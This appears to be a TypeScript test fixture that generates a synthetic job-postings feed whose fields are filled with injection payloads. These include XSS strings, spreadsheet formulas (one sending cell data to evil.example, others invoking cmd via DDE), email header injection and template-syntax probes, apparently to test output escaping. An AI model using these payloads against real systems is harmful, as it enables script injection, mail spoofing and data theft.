import { seededRandom } from "../../src/domain/random.ts";
import { addDays, addWeeks, mondayOf, type Week } from "../../src/domain/week.ts";
import { jsonl } from "./postings.ts";

export const LAST: Week = "2026-W45";
const WEEKS = 9;

/**
 * Texts that try to be something else than text: in a template, a mail, a header line, a page, a drawing, a spreadsheet, a feed
 * or the order of the words around them. Each names itself, so that it can be found again.
 */
export const ATTACKS = {
  short: "=1{{name}}<b>%0aBcc",
  mjml: "</mj-text><mj-raw><b>mjml1</b></mj-raw>",
  handlebars: "{{email}} {{{address}}} {{#each readers}}hb2{{/each}} {{> footer}}",
  script: "</script><script>alert('script3')</script>",
  element: `"><img src=x onerror=alert(4)>`,
  drawing: `<svg onload=alert(5)><a xlink:href="javascript:alert(5)">svg5</a></svg>`,
  formula: `=HYPERLINK("http://evil.example/?x="&A1,"formula6")`,
  plus: "+cmd|' /C calc'!A0 plus7",
  minus: "-2+3+cmd|' /C calc'!A0 minus8",
  at: "@SUM(1+1)*cmd|'at9'!A0",
  header: "head10\r\nBcc: victim@example.org\r\nContent-Type: text/html\r\n\r\n<b>body</b>",
  override: "\u202Eevil\u202C \u2067rtl11\u2066 \u200F\u061C",
  controls: "nul\u0000\u0007\u001b[31m12\u0085\u2028\u2029\uFEFF",
  marks: "\uE000address\uE001 \uE002reader:x\uE003 \uE0109\uE011total.openings.count\uE012 mark13 \u{F0000}\u{10FFFD}",
  listmonk: "{{ .Subscriber.Email }} {{ UnsubscribeURL }} %%unsubscribe14%% %%=v(@x)=%%",
  django: "{% load static %}{{ subscriber.email }}{# note15 #} *|EMAIL|* ${x} <%= y %> [[z]]",
  emoji: "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} zwj16 \u{1F3F3}\uFE0F\u200D\u{1F308}",
  comment: "--><!-- <![endif]--><!--[if mso]><b>mso17</b><![endif]--> ]]>cdata",
  entity: "&lt;script&gt;alert(18)&lt;/script&gt; &#x202e; &amp;amp;",
  replacement: "$& $' $` $1 repl19 MJMLHTMLIGNORE0END <!-- htmlmin:ignore -->",
  message: "{growth} {role, plural, other {#}} '{'icu20'}' <b>x</b> {0}",
  encoded: "=?utf-8?B?QmNjOiB4QHkueg==?= %0d%0aBcc:enc21@example.org &#13;&#10;",
  link: "https://evil.example/login?next=javascript:alert(22) [click](javascript:alert(22)) *bold* <http://x>",
  proto: "__proto__ constructor toString hasOwnProperty 23",
  combining: `Z${"\u0300\u0336".repeat(40)}algo24`,
} as const;

const names = Object.values(ATTACKS);
const ROLES = names.map((attack, index) => ({ name: attack, pay: 90_000 + index * 4_000, chance: 1 - index * 0.03 }));

/**
 * Nine weeks of a stock as JSONL in our own columns. Roles, titles, employers, places and skills are attacks; in the last week
 * one role is listed far more often and another pays far more, so that the letter has news of both.
 */
export function hostileFeed(): string {
  const random = seededRandom(7);
  const rows: Record<string, unknown>[] = [];
  for (let week = 0; week < WEEKS; week++) {
    const day = addDays(mondayOf(addWeeks(LAST, week - WEEKS + 1)), 5);
    const isNews = week === WEEKS - 1;
    ROLES.forEach((role, number) => {
      for (let employer = 0; employer < (number === 0 ? 70 : 26); employer++) {
        const more = number === 0 ? (isNews ? 1 : 0.2) : (isNews ? 0.33 : 0.5) * role.chance;
        if (random() > more) continue;
        const raise = number === 2 && isNews ? 1.4 : 1;
        const pay = Math.round((role.pay * raise * (0.85 + 0.3 * random())) / 500) * 500;
        const attack = names[(number + employer) % names.length] ?? "";
        rows.push({
          key: `${week}-${number}-${employer}-${attack}`,
          title: `${role.name} ${attack}`,
          // One role is of an honest name, so that a comparison of both kinds is there.
          roles: number === 3 ? "Data Engineer" : role.name.replaceAll(";", ","),
          employer: `${attack} ${employer}`,
          place: attack,
          country: "US",
          currency: "USD",
          pay_floor: pay - 10_000,
          pay_ceiling: pay + 10_000,
          skills: [attack, names[(employer * 5) % names.length], "Python"].join(";"),
          first_seen: day,
          last_seen: day,
        });
      }
    });
  }
  return jsonl(rows);
}
